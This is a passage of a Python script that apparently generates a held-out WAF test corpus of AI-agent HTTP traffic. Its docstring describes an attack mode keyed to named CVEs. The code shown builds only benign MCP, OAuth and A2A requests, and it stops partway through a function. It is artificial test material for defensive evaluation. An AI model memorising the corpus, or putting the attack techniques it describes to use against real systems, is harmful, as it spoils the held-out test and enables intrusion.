#!/usr/bin/env python3
"""Held-out HTTP corpus generator for the "agents" set (AI-agent infrastructure).

What it is
    A deterministic generator (Python 3 stdlib only, fixed random seed) of labelled
    HTTP requests that AI-agent infrastructure running in Kubernetes receives in
    2025-2026: MCP servers (Streamable HTTP and legacy SSE transports, JSON-RPC 2.0
    initialize / tools/list / tools/call / resources/read / prompts/get, Mcp-Session-Id,
    OAuth discovery and dynamic client registration), Google A2A agents (agent cards,
    message/send, tasks, push notifications), low-code agent builders (n8n, Flowise,
    Langflow, Dify), LangServe / LangGraph Platform, OpenAI Assistants / Responses /
    Chat Completions style APIs with tool calls and tool outputs, code-interpreter
    sandboxes and Jupyter, Playwright-MCP browser agents, vector / retrieval stores,
    and tracing / evaluation ingestion (LangSmith / Langfuse / OTLP style).

    "benign" mode prints requests that must pass: ordinary traffic (category
    "benign") and legitimate requests whose content contains code because agents
    work on code (category "dev-content": git diffs, sandbox shell commands, SQL a
    user asked to explain, prompt templates, stack traces, HTML in tool results,
    workspace file paths and file writes).

    "attacks" mode prints requests that must be detected, labelled with the attack
    class (sqli, xss, lfi, rfi, rce, php, java, generic, protocol, ssrf, xxe, ssti,
    nosqli, ldapi, crlf, scanner), placed where a real client or exploit puts them
    (query, headers, cookies, JSON-RPC params, nested tool arguments, forms,
    multipart, XML) with the encodings real attackers use.  Prompt-injection text is
    deliberately NOT included as an attack.

Written blind
    This file was written without reading Palisade's rules, rule sources, rule
    tests, test data or the other corpus generators, and without running the WAF,
    so that it measures the WAF on traffic it was not tuned for.  Payloads follow
    public techniques and CVEs of this space (e.g. filesystem-MCP symlink-prefix
    traversal, mcp-remote CVE-2025-6514, Langflow CVE-2025-3248, Flowise
    CVE-2025-59528, n8n expression injection, Log4Shell, Spring Cloud Function
    routing-expression).

How to run (from the repository root)
    python3 scripts/corpus-agents.py attacks > rulesets/tests/data/agents-attacks.jsonl
    python3 scripts/corpus-agents.py benign  > rulesets/tests/data/agents-benign.jsonl

Line format: see /work/shared/corpora/README.md (one JSON object per line; bodies are
UTF-8 text with a correct Content-Length; "raw_b64" is used only where bytes must be
exact: binary uploads and request-smuggling framing).
"""

import base64
import json
import random
import sys
import urllib.parse
import uuid

SEED = 20250926
R = random.Random(SEED)


# --------------------------------------------------------------------------- helpers

def rid_uuid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def hexid(n=32):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def alnum(n):
    return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(n))


def b64u(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def jwt(sub=None, aud="https://mcp.acme-ai.dev", scope="mcp:tools mcp:resources"):
    alg = R.choice(["RS256", "ES256"])
    head = {"alg": alg, "kid": hexid(16), "typ": "JWT"}
    iat = 1750000000 + R.randint(0, 20000000)
    pay = {"iss": "https://auth.acme-ai.dev/", "sub": sub or ("user_" + alnum(12)), "aud": aud,
           "iat": iat, "exp": iat + 3600, "scope": scope, "azp": "client_" + alnum(10)}
    sig = bytes(R.getrandbits(8) for _ in range(256 if alg == "RS256" else 64))
    return ".".join([b64u(json.dumps(head, separators=(",", ":")).encode()),
                     b64u(json.dumps(pay, separators=(",", ":")).encode()), b64u(sig)])


def session_id():
    k = R.randint(0, 3)
    if k == 0:
        return rid_uuid()
    if k == 1:
        return hexid(32)
    if k == 2:
        return b64u(bytes(R.getrandbits(8) for _ in range(24)))
    return "mcp-session-" + rid_uuid()


def traceparent():
    return "00-%s-%s-01" % (hexid(32), hexid(16))


def iso(day_offset=0):
    d = 1 + (R.randint(0, 27) + day_offset) % 28
    return "2025-%02d-%02dT%02d:%02d:%02d.%03dZ" % (R.randint(6, 12), d, R.randint(0, 23),
                                                     R.randint(0, 59), R.randint(0, 59), R.randint(0, 999))


def png_b64(n=180):
    raw = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(R.getrandbits(8) for _ in range(n))
    return base64.b64encode(raw).decode()


def qs(d):
    return urllib.parse.urlencode(d, quote_via=urllib.parse.quote)


def enc(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


# JSON serialisation styles of common clients
def dumps(o, style="node"):
    if style == "node":  # JSON.stringify
        return json.dumps(o, ensure_ascii=False, separators=(",", ":"))
    if style == "py":  # json.dumps defaults (httpx / requests)
        return json.dumps(o)
    if style == "go":  # encoding/json escapes <, >, & as \u003c ...
        s = json.dumps(o, ensure_ascii=False, separators=(",", ":"))
        return s.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    if style == "pretty":
        return json.dumps(o, ensure_ascii=False, indent=2)
    raise ValueError(style)


CLIENTS = [  # (user agent, json style)
    ("node", "node"),
    ("claude-code/2.0.14", "node"),
    ("claude-code/1.0.98", "node"),
    ("Cursor/1.5.11 (darwin arm64)", "node"),
    ("python-httpx/0.28.1", "py"),
    ("python-httpx/0.27.2", "py"),
    ("openai-mcp/1.0.0", "node"),
    ("mcp-go/0.32.0 Go-http-client/1.1", "go"),
    ("Go-http-client/1.1", "go"),
    ("Goose/1.4.0", "node"),
    ("Windsurf/1.12.3", "node"),
    ("vscode-copilot-chat/0.31.2", "node"),
]

BROWSERS = [
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
]

PY_UAS = ["python-httpx/0.28.1", "python-requests/2.32.3", "aiohttp/3.10.10", "langgraph-sdk-py/0.2.9",
          "langsmith-py/0.4.31", "langfuse-python/3.3.4", "OpenAI/Python 1.107.0", "a2a-python/0.3.4"]
JS_UAS = ["axios/1.7.9", "node", "undici", "n8n", "langfuse-js/3.38.4", "OpenAI/JS 5.20.1",
          "Flowise/3.0.5", "a2a-js/0.3.1"]

MCP_HOSTS = ["mcp.acme-ai.dev", "mcp-fs.agents.svc.cluster.local:8080", "tools-gateway.agents.svc:3000",
             "mcp-gateway.internal.acme-ai.dev", "github-mcp.dev-tools.svc.cluster.local:8000",
             "mcp-browser.agents.svc.cluster.local:8931", "db-mcp.data.svc.cluster.local:8000"]


class Corpus:
    def __init__(self, expect):
        self.expect = expect
        self.lines = []
        self.counters = {}

    def _id(self, cat, short):
        n = self.counters.get((cat, short), 0) + 1
        self.counters[(cat, short)] = n
        return "agents/%s/%s-%03d" % (cat, short, n)

    def req(self, cat, short, method, host, uri, ua, body=None, ctype="application/json",
            extra=(), accept=None, version="HTTP/1.1"):
        headers = [["Host", host], ["User-Agent", ua]]
        if accept:
            headers.append(["Accept", accept])
        for k, v in extra:
            headers.append([k, v])
        if body is not None:
            headers.append(["Content-Type", ctype])
            headers.append(["Content-Length", str(len(body.encode("utf-8")))])
        obj = {"id": self._id(cat, short), "set": "agents", "category": cat, "expect": self.expect,
               "method": method, "uri": uri, "version": version, "headers": headers}
        if body is not None:
            obj["body"] = body
        self.lines.append(obj)

    def raw(self, cat, short, data):
        self.lines.append({"id": self._id(cat, short), "set": "agents", "category": cat,
                           "expect": self.expect, "raw_b64": base64.b64encode(data).decode()})

    def emit(self):
        out = sys.stdout
        for o in self.lines:
            out.write(json.dumps(o, ensure_ascii=False) + "\n")


def mcp(C, cat, short, method, params, host=None, path="/mcp", client=None, sid=True, rid=None,
        extra=(), raw_body=None, auth=None, notification=False):
    """One JSON-RPC message POSTed to an MCP Streamable HTTP endpoint."""
    ua, style = client or R.choice(CLIENTS)
    msg = {"jsonrpc": "2.0"}
    if not notification:
        msg["id"] = rid if rid is not None else R.choice([R.randint(0, 400), rid_uuid()[:8] + "-" + str(R.randint(1, 99))])
    msg["method"] = method
    if params is not None:
        msg["params"] = params
    body = raw_body if raw_body is not None else dumps(msg, style)
    ex = []
    if auth is None:
        auth = R.random() < 0.6
    if auth:
        ex.append(["Authorization", "Bearer " + jwt()])
    if sid:
        ex.append(["Mcp-Session-Id", sid if isinstance(sid, str) else session_id()])
    if method != "initialize":
        ex.append(["MCP-Protocol-Version", R.choice(["2025-06-18", "2025-06-18", "2025-03-26", "2025-11-25"])])
    if R.random() < 0.3:
        ex.append(["traceparent", traceparent()])
    ex.extend(extra)
    C.req(cat, short, "POST", host or R.choice(MCP_HOSTS), path, ua, body, "application/json",
          extra=ex, accept="application/json, text/event-stream")


def tool_call(C, cat, short, name, args, **kw):
    mcp(C, cat, short, "tools/call", {"name": name, "arguments": args}, **kw)


def multipart(fields, files, style="webkit"):
    if style == "webkit":
        b = "----WebKitFormBoundary" + alnum(16)
    elif style == "py":
        b = hexid(32)
    else:
        b = "----formdata-undici-0" + "".join(R.choice("0123456789") for _ in range(11))
    parts = []
    for name, val in fields:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (b, name, val))
    for name, fname, ctype, content in files:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n'
                     % (b, name, fname, ctype, content))
    parts.append("--%s--\r\n" % b)
    return "".join(parts), "multipart/form-data; boundary=" + b


def raw_request(method, uri, headers, body=b""):
    lines = ["%s %s HTTP/1.1" % (method, uri)] + ["%s: %s" % (k, v) for k, v in headers]
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


# --------------------------------------------------------------------------- benign pools

QUESTIONS = [
    "What's the refund policy for annual plans?",
    "Summarise the Q3 incident review in three bullet points.",
    "Can you draft a polite reply to the customer who asked about the late delivery?",
    "Wie viele Urlaubstage habe ich dieses Jahr noch übrig?",
    "Quels sont les horaires d'ouverture du support le samedi ?",
    "東京オフィスの会議室を明日の午後3時に予約してください。",
    "Compare the Pro and Team tiers & tell me which one fits a 12-person team.",
    "Translate 'the shipment will arrive on Tuesday' into Spanish and Portuguese.",
    "Find flights from SFO to JFK on 14 Nov, morning departures only (no red-eyes).",
    "Why did the nightly ETL job take 2x longer yesterday?",
    "List the open PRs assigned to me, excluding drafts.",
    "Explain the difference between RAG and fine-tuning for our support bot.",
    "¿Cuál es el estado del pedido #A-10293?",
    "Remind me to call Dana at 4pm — she's in the Berlin office.",
    "Give me a 100-word summary of the attached contract; highlight the termination clause.",
    "How do I rotate my API key without downtime?",
    "Plan a 3-day itinerary for Lisbon with a focus on food 🍷🐟",
    "What is 15% of 2,340.50?",
    "Check whether the staging cluster has any pods in CrashLoopBackOff.",
    "Update the ticket status to 'waiting on customer' and add a short note.",
    "Select the best three candidates from the shortlist and explain why.",
    "Drop me a summary of today's standup notes, please.",
    "Какие задачи остались в текущем спринте?",
    "ما هي سياسة الإرجاع للطلبات الدولية؟",
    "Is the /v2/orders endpoint deprecated? When does it sunset?",
    "Book a table for 4 at 7:30pm near Union Square (no seafood, one vegetarian).",
    "Who approved the budget change on 2025-09-03 and what was the amount?",
    "Write a haiku about Kubernetes upgrades.",
    "Can you find the onboarding doc for new hires and send it to priya@example.com?",
    "What were our top 5 support topics last week, and did any spike vs. the week before?",
    "请总结一下这份会议纪要的要点。",
    "Our NPS dropped from 42 to 37 - what do the verbatims say?",
]

ANSWERS = [
    "Sure! Here's a quick summary:\n\n1. **Root cause**: a misconfigured autoscaler (min replicas = 1).\n2. **Impact**: ~14 minutes of elevated latency (p95 2.3s) for EU customers.\n3. **Follow-ups**: add an alert on queue depth, and review HPA settings in the runbook.\n\nLet me know if you'd like the full timeline.",
    "The Team tier is the better fit: it includes SSO, shared workspaces and priority support, and at 12 seats it works out to $22/seat/month vs. $30 on Pro. The only thing you'd lose is the legacy export add-on, which you haven't used since March.",
    "Voici les horaires : le support est ouvert le samedi de 9h à 17h (heure de Paris). En dehors de ces horaires, vous pouvez ouvrir un ticket et nous répondrons dans les 24 heures.",
    "I couldn't find an order with that number. Could you double-check it? Order numbers look like `A-10293` and are in the confirmation e-mail.",
    "| Tier | Price | Seats | SSO |\n|---|---|---|---|\n| Pro | $30 | 1-10 | no |\n| Team | $22 | 5-100 | yes |\n| Enterprise | custom | 50+ | yes |",
    "Day 1: Alfama & Mercado da Ribeira 🐟\nDay 2: Belém (pastéis!), LX Factory, dinner at a tasca in Bairro Alto\nDay 3: Day trip to Sintra, back for sunset at Miradouro da Senhora do Monte 🌅",
    "明日の15:00〜16:00で会議室「富士」を予約しました。招待状を参加者に送信しますか？",
    "The nightly ETL ran 2.1x longer because the `events` partition for 2025-09-30 was 3x larger than usual (a backfill from the mobile team). No errors were logged; the job finished at 05:42 UTC.",
    "15% of 2,340.50 is 351.08 (rounded to two decimals).",
    "Three pods in `staging` are in CrashLoopBackOff: `checkout-7d9f`, `checkout-8a1c` and `notifier-55b2`. All three fail on startup with a missing env var `SMTP_HOST`.",
    "Done — I've set the ticket to *Waiting on customer* and added: \"Asked the customer for the HAR file and their browser version.\"",
    "Готово. В спринте осталось 4 задачи: две по биллингу, одна по документации и одна по мобильному клиенту.",
]

NAMES = ["Dana Whitfield", "Priya Raman", "José Álvarez", "Ngozi Okafor", "Lukas Schäfer", "Mei Chen", "Omar Haddad",
         "Sofia Rossi", "Kenji Watanabe", "Aisha Bello", "Tomasz Nowak", "Emma O'Brien"]
EMAILS = ["dana.whitfield@example.com", "priya@example.com", "jose.alvarez@example.org", "n.okafor@example.net",
          "lukas+agents@example.com", "mei.chen@example.io"]
CITIES = ["Berlin, DE", "Lisbon", "São Paulo", "Tokyo", "Nairobi", "Toronto, ON", "Zürich", "Austin, TX", "Kraków"]


# =========================================================================== BENIGN

def benign_mcp(C):
    cat = "benign"
    clients_info = [("claude-code", "2.0.14"), ("cursor-vscode", "1.0.0"), ("openai-mcp", "1.0.0"),
                    ("mcp-inspector", "0.16.5"), ("goose", "1.4.0"), ("n8n-mcp-client", "1.2.0"),
                    ("LangChain MCP Adapters", "0.1.9"), ("Visual Studio Code", "1.104.1")]
    for i, (n, v) in enumerate(clients_info):
        caps = {"roots": {"listChanged": True}, "sampling": {}}
        if i % 2:
            caps["elicitation"] = {}
        mcp(C, cat, "mcp-initialize", "initialize",
            {"protocolVersion": R.choice(["2025-06-18", "2025-03-26"]), "capabilities": caps,
             "clientInfo": {"name": n, "version": v}}, sid=False, rid=0)
    for _ in range(5):
        mcp(C, cat, "mcp-initialized", "notifications/initialized", None, notification=True)
    for _ in range(6):
        p = None if R.random() < 0.5 else {"cursor": b64u(json.dumps({"offset": R.randint(1, 5) * 50}).encode())}
        mcp(C, cat, "mcp-tools-list", "tools/list", p)
    mcp(C, cat, "mcp-resources-list", "resources/list", {})
    mcp(C, cat, "mcp-resources-list", "resources/templates/list", None)
    mcp(C, cat, "mcp-prompts-list", "prompts/list", {})
    mcp(C, cat, "mcp-ping", "ping", None)
    mcp(C, cat, "mcp-ping", "ping", {})
    mcp(C, cat, "mcp-logging", "logging/setLevel", {"level": "info"})
    mcp(C, cat, "mcp-cancel", "notifications/cancelled", {"requestId": 17, "reason": "User requested cancellation"},
        notification=True)
    mcp(C, cat, "mcp-progress", "notifications/roots/list_changed", None, notification=True)
    mcp(C, cat, "mcp-complete", "completion/complete",
        {"ref": {"type": "ref/prompt", "name": "code_review"}, "argument": {"name": "language", "value": "py"}})

    tools = [
        ("get_weather", lambda: {"location": R.choice(CITIES), "units": R.choice(["metric", "imperial"])}),
        ("search_docs", lambda: {"query": R.choice(QUESTIONS), "top_k": R.choice([3, 5, 8])}),
        ("send_slack_message", lambda: {"channel": R.choice(["#ops-alerts", "#team-support", "C07Q2L1ABCD"]),
                                        "text": R.choice(ANSWERS)}),
        ("create_issue", lambda: {"owner": "acme", "repo": "agent-gateway",
                                  "title": R.choice(["SSE stream drops after 60s behind ingress",
                                                     "Add retry with jitter to tool calls",
                                                     "Docs: explain Mcp-Session-Id lifecycle"]),
                                  "body": "### Steps to reproduce\n1. Open a session\n2. Wait ~60s\n3. Stream closes with 504\n\n**Expected**: keep-alive pings every 15s.",
                                  "labels": ["bug", "triage"]}),
        ("calendar_create_event", lambda: {"title": "1:1 with " + R.choice(NAMES), "start": iso(), "end": iso(1),
                                           "attendees": R.sample(EMAILS, 2), "timezone": "Europe/Berlin"}),
        ("fetch", lambda: {"url": R.choice(["https://docs.python.org/3/library/asyncio-task.html",
                                            "https://modelcontextprotocol.io/specification/2025-06-18/basic/transports",
                                            "https://en.wikipedia.org/wiki/Lisbon",
                                            "https://github.com/acme/agent-gateway/releases?page=2",
                                            "https://api.weather.gov/points/39.7456,-97.0892"]),
                           "max_length": 5000, "start_index": R.choice([0, 5000]), "raw": False}),
        ("read_file", lambda: {"path": R.choice(["/workspace/docs/onboarding.md", "/workspace/notes/2025-10-02.txt",
                                                 "/Users/dana/Projects/website/README.md", "/data/reports/q3-summary.csv"])}),
        ("list_directory", lambda: {"path": R.choice(["/workspace/docs", "/workspace/projects/website/public"])}),
        ("search_files", lambda: {"path": "/workspace", "pattern": R.choice(["invoice", "*.pdf", "roadmap"]),
                                  "excludePatterns": ["node_modules", ".git"]}),
        ("brave_web_search", lambda: {"query": R.choice(["best ramen near Shibuya station", "kubernetes 1.34 release notes",
                                                         "how to cancel a SEPA direct debit"]), "count": 10, "offset": 0}),
        ("jira_get_issue", lambda: {"issue_key": "OPS-%d" % R.randint(100, 3000), "fields": "summary,status,assignee"}),
        ("stripe_list_invoices", lambda: {"customer": "cus_" + alnum(14), "limit": 10, "status": "open"}),
        ("create_entities", lambda: {"entities": [{"name": R.choice(NAMES), "entityType": "person",
                                                   "observations": ["works in the Berlin office", "prefers e-mail over calls"]}]}),
        ("sequentialthinking", lambda: {"thought": "The user wants a cheaper plan; first I should check current seat usage before recommending a tier.",
                                        "thoughtNumber": 2, "totalThoughts": 5, "nextThoughtNeeded": True}),
        ("get_current_time", lambda: {"timezone": R.choice(["Europe/Lisbon", "America/New_York", "Asia/Tokyo"])}),
        ("convert_time", lambda: {"source_timezone": "America/Los_Angeles", "time": "16:30", "target_timezone": "Europe/Warsaw"}),
        ("pods_list_in_namespace", lambda: {"namespace": R.choice(["staging", "default", "agents"])}),
        ("notion_search", lambda: {"query": "Q4 planning", "filter": {"property": "object", "value": "page"}, "page_size": 5}),
        ("linear_create_issue", lambda: {"teamId": rid_uuid(), "title": "Flaky e2e test: checkout › applies coupon",
                                         "description": "Fails ~1 in 20 runs on CI. Seen on `main` since Oct 2.", "priority": 3}),
        ("sentry_get_issue", lambda: {"issue_id_or_url": "https://acme.sentry.io/issues/%d/" % R.randint(10 ** 9, 10 ** 10)}),
        ("hubspot_search_contacts", lambda: {"filters": [{"propertyName": "email", "operator": "EQ", "value": R.choice(EMAILS)}],
                                             "properties": ["firstname", "lastname", "lifecyclestage"]}),
        ("gmail_send", lambda: {"to": [R.choice(EMAILS)], "subject": "Re: Your order #A-10293",
                                "body": "Hi José,\n\nThanks for your patience — your order shipped today and should arrive Thursday.\n\nBest,\nSupport team"}),
    ]
    for i in range(44):
        name, f = tools[i % len(tools)]
        args = f()
        params = {"name": name, "arguments": args}
        if R.random() < 0.25:
            params["_meta"] = {"progressToken": R.randint(1, 999)}
        mcp(C, cat, "mcp-tools-call", "tools/call", params)

    uris = ["file:///workspace/README.md", "file:///workspace/docs/architecture.md", "postgres://db.data.svc/orders/schema",
            "github://repos/acme/agent-gateway/issues/412", "notion://page/" + hexid(32), "memo://insights",
            "screen://localhost/display1", "slack://channel/C07Q2L1ABCD/history?limit=50", "calendar://events/2025-10-14",
            "s3://acme-reports/2025/q3/summary.pdf"]
    for u in uris:
        mcp(C, cat, "mcp-resources-read", "resources/read", {"uri": u})
    mcp(C, cat, "mcp-resources-subscribe", "resources/subscribe", {"uri": "file:///workspace/docs/architecture.md"})
    prompts = [("summarize_thread", {"channel": "#incidents", "since": "24h"}), ("code_review", {"language": "python", "strictness": "high"}),
               ("draft_email", {"tone": "friendly", "recipient": "Ngozi", "topic": "quarterly business review"}),
               ("translate", {"target_language": "日本語", "text": "Your subscription renews on 1 November."}),
               ("meeting_notes", {"meeting_id": rid_uuid()}), ("explain_error", {"error": "429 Too Many Requests"})]
    for name, args in prompts:
        mcp(C, cat, "mcp-prompts-get", "prompts/get", {"name": name, "arguments": args})

    # GET SSE stream, resumption, DELETE session
    for i in range(6):
        ua, _ = R.choice(CLIENTS)
        ex = [["Mcp-Session-Id", session_id()], ["MCP-Protocol-Version", "2025-06-18"], ["Cache-Control", "no-cache"]]
        if i % 2:
            ex.append(["Last-Event-ID", "%d" % R.randint(10, 900)])
        if i % 3 == 0:
            ex.insert(0, ["Authorization", "Bearer " + jwt()])
        C.req(cat, "mcp-get-stream", "GET", R.choice(MCP_HOSTS), "/mcp", ua, accept="text/event-stream", extra=ex)
    for _ in range(3):
        ua, _ = R.choice(CLIENTS)
        C.req(cat, "mcp-delete-session", "DELETE", R.choice(MCP_HOSTS), "/mcp", ua,
              extra=[["Mcp-Session-Id", session_id()], ["MCP-Protocol-Version", "2025-06-18"]])
    # legacy HTTP+SSE transport
    for _ in range(4):
        ua, _ = R.choice(CLIENTS)
        C.req(cat, "mcp-sse-connect", "GET", R.choice(MCP_HOSTS), "/sse", ua, accept="text/event-stream",
              extra=[["Cache-Control", "no-cache"], ["Connection", "keep-alive"]])
    for m, p in [("tools/list", {}), ("tools/call", {"name": "get_weather", "arguments": {"location": "Kraków"}}),
                 ("resources/read", {"uri": "file:///workspace/README.md"}), ("ping", None)]:
        mcp(C, cat, "mcp-sse-message", m, p, path="/messages?sessionId=" + rid_uuid(), sid=False)
    # JSON-RPC batch (2025-03-26)
    batch = [{"jsonrpc": "2.0", "id": 5, "method": "tools/list"}, {"jsonrpc": "2.0", "id": 6, "method": "prompts/list"}]
    mcp(C, cat, "mcp-batch", "batch", None, raw_body=json.dumps(batch, separators=(",", ":")))
    # client responding to a server sampling request
    resp = {"jsonrpc": "2.0", "id": "srv-12", "result": {"role": "assistant", "model": "claude-sonnet-4-5",
            "stopReason": "endTurn", "content": {"type": "text", "text": R.choice(ANSWERS)}}}
    mcp(C, cat, "mcp-sampling-result", "x", None, raw_body=json.dumps(resp, ensure_ascii=False))
    resp = {"jsonrpc": "2.0", "id": 3, "result": {"action": "accept", "content": {"email": "dana.whitfield@example.com", "confirm": True}}}
    mcp(C, cat, "mcp-elicitation-result", "x", None, raw_body=json.dumps(resp))
    resp = {"jsonrpc": "2.0", "id": 9, "result": {"roots": [{"uri": "file:///Users/dana/Projects/website", "name": "website"}]}}
    mcp(C, cat, "mcp-roots-result", "x", None, raw_body=json.dumps(resp))


def benign_oauth(C):
    cat = "benign"
    hosts = ["mcp.acme-ai.dev", "auth.acme-ai.dev", "mcp.linear.app.example", "mcp-gateway.internal.acme-ai.dev"]
    for p in ["/.well-known/oauth-protected-resource", "/.well-known/oauth-protected-resource/mcp",
              "/.well-known/oauth-authorization-server", "/.well-known/oauth-authorization-server/tenant1",
              "/.well-known/openid-configuration", "/.well-known/jwks.json"]:
        ua, _ = R.choice(CLIENTS)
        C.req(cat, "oauth-discovery", "GET", R.choice(hosts), p, ua, accept="application/json",
              extra=[["MCP-Protocol-Version", "2025-06-18"]])
    for i in range(6):
        ua, style = R.choice(CLIENTS)
        port = R.choice([33418, 6274, 54213, 8976])
        reg = {"client_name": R.choice(["Claude Code (acme-mcp)", "Cursor", "MCP Inspector", "Goose", "VS Code — GitHub Copilot"]),
               "redirect_uris": ["http://localhost:%d/callback" % port, "http://127.0.0.1:%d/oauth/callback" % port],
               "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
               "token_endpoint_auth_method": "none", "scope": "mcp:tools mcp:resources offline_access"}
        if i % 2:
            reg["client_uri"] = "https://cursor.com"
            reg["logo_uri"] = "https://cursor.com/assets/images/logo.png"
            reg["software_id"] = rid_uuid()
            reg["software_version"] = "1.5.11"
        C.req(cat, "oauth-dcr", "POST", "auth.acme-ai.dev", R.choice(["/register", "/oauth/register", "/oauth2/register"]),
              ua, dumps(reg, style), accept="application/json")
    for _ in range(5):
        ua = R.choice(BROWSERS)
        q = {"response_type": "code", "client_id": "client_" + alnum(16),
             "redirect_uri": "http://localhost:%d/callback" % R.choice([33418, 6274]),
             "scope": "mcp:tools mcp:resources", "state": b64u(bytes(R.getrandbits(8) for _ in range(16))),
             "code_challenge": b64u(bytes(R.getrandbits(8) for _ in range(32))), "code_challenge_method": "S256",
             "resource": "https://mcp.acme-ai.dev/mcp"}
        C.req(cat, "oauth-authorize", "GET", "auth.acme-ai.dev", "/authorize?" + qs(q), ua,
              accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
              extra=[["Accept-Language", R.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "ja,en;q=0.5"])],
                     ["Cookie", "auth_session=" + b64u(bytes(R.getrandbits(8) for _ in range(30)))]])
    for i in range(5):
        ua, _ = R.choice(CLIENTS)
        if i < 3:
            f = {"grant_type": "authorization_code", "code": alnum(40), "redirect_uri": "http://localhost:33418/callback",
                 "client_id": "client_" + alnum(16), "code_verifier": alnum(64), "resource": "https://mcp.acme-ai.dev/mcp"}
        else:
            f = {"grant_type": "refresh_token", "refresh_token": alnum(48), "client_id": "client_" + alnum(16)}
        C.req(cat, "oauth-token", "POST", "auth.acme-ai.dev", "/token", ua, qs(f),
              "application/x-www-form-urlencoded", accept="application/json")
    C.req(cat, "oauth-callback", "GET", "localhost:33418", "/callback?code=%s&state=%s" % (alnum(32), alnum(22)),
          BROWSERS[0], accept="text/html")
    C.req(cat, "oauth-revoke", "POST", "auth.acme-ai.dev", "/revoke", "python-httpx/0.28.1",
          qs({"token": alnum(48), "token_type_hint": "refresh_token"}), "application/x-www-form-urlencoded")


def a2a_msg(text, parts_extra=None, ctx=None):
    parts = [{"kind": "text", "text": text}]
    if parts_extra:
        parts.extend(parts_extra)
    m = {"role": "user", "parts": parts, "messageId": rid_uuid(), "kind": "message"}
    if ctx:
        m["contextId"] = ctx
    return m


def a2a(C, cat, short, method, params, host=None, ua=None, raw_body=None, path="/", extra=()):
    ua = ua or R.choice(PY_UAS + JS_UAS)
    body = raw_body if raw_body is not None else json.dumps(
        {"jsonrpc": "2.0", "id": R.choice([R.randint(1, 999), rid_uuid()]), "method": method, "params": params},
        ensure_ascii=R.random() < 0.5)
    ex = [["Authorization", "Bearer " + jwt(aud="https://agents.acme-ai.dev")]] if R.random() < 0.7 else []
    if R.random() < 0.4:
        ex.append(["X-A2A-Extensions", "https://a2a-protocol.org/ext/traceability/v1"])
    ex.extend(extra)
    C.req(cat, short, "POST", host or R.choice(["travel-agent.agents.svc.cluster.local:9999", "agents.acme-ai.dev",
                                                 "currency-agent.agents.svc:10000", "research-agent.internal.acme-ai.dev"]),
          path, ua, body, accept="application/json" if "stream" not in method else "text/event-stream", extra=ex)


def benign_a2a(C):
    cat = "benign"
    for p in ["/.well-known/agent.json", "/.well-known/agent-card.json", "/.well-known/agent-card.json",
              "/v1/card", "/agent/authenticatedExtendedCard"]:
        C.req(cat, "a2a-card", "GET", R.choice(["travel-agent.agents.svc.cluster.local:9999", "agents.acme-ai.dev"]), p,
              R.choice(PY_UAS + JS_UAS), accept="application/json")
    texts = QUESTIONS[:] + ["Convert 250 USD to EUR using today's rate.", "Find a hotel in Zürich under CHF 220/night for 12-14 Nov.",
                           "Research the top 3 open-source vector databases and compare licensing."]
    for i in range(10):
        a2a(C, cat, "a2a-message-send", "message/send",
            {"message": a2a_msg(texts[i * 3 % len(texts)], ctx=rid_uuid() if i % 2 else None),
             "configuration": {"acceptedOutputModes": ["text/plain", "application/json"], "blocking": i % 3 == 0}})
    a2a(C, cat, "a2a-message-send", "message/send",
        {"message": a2a_msg("Here is the receipt, please file the expense.",
                            [{"kind": "file", "file": {"name": "receipt-2025-10-03.png", "mimeType": "image/png", "bytes": png_b64(300)}}])})
    a2a(C, cat, "a2a-message-send", "message/send",
        {"message": a2a_msg("Book this itinerary.", [{"kind": "data", "data": {"flights": [{"from": "LIS", "to": "ZRH", "date": "2025-11-12", "fare_class": "Y"}],
                                                                             "budget": {"currency": "EUR", "max": 900}}}])})
    for i in range(4):
        a2a(C, cat, "a2a-message-stream", "message/stream", {"message": a2a_msg(R.choice(texts))})
    for _ in range(4):
        a2a(C, cat, "a2a-tasks-get", "tasks/get", {"id": rid_uuid(), "historyLength": R.choice([0, 5, 10])})
    a2a(C, cat, "a2a-tasks-cancel", "tasks/cancel", {"id": rid_uuid()})
    a2a(C, cat, "a2a-tasks-resubscribe", "tasks/resubscribe", {"id": rid_uuid()})
    a2a(C, cat, "a2a-push-config", "tasks/pushNotificationConfig/set",
        {"taskId": rid_uuid(), "pushNotificationConfig": {"url": "https://hooks.acme-ai.dev/a2a/notify",
                                                          "token": alnum(24), "authentication": {"schemes": ["Bearer"]}}})
    a2a(C, cat, "a2a-push-config", "tasks/pushNotificationConfig/get", {"id": rid_uuid()})
    # push notification received by a client webhook
    for st in ["working", "completed", "input-required"]:
        ev = {"id": rid_uuid(), "contextId": rid_uuid(), "kind": "task", "status": {"state": st, "timestamp": iso()},
              "artifacts": [{"artifactId": rid_uuid(), "name": "itinerary.md",
                             "parts": [{"kind": "text", "text": ANSWERS[5]}]}] if st == "completed" else []}
